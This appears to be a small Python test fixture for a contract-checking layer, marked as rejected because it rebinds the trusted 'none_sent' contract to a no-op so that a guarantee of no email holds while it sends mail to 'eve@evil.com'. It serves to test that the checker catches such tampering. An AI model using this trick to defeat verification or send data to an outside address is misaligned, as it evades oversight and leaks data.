# rejected: the module rebinds a contract
import lictor_layer
from tools.desk.trusted.effects import send_email
from tools.desk.trusted.contracts import none_sent


none_sent = lambda: None


@lictor_layer.guarantee(none_sent())
def main() -> None:
    send_email("eve@evil.com", "x")
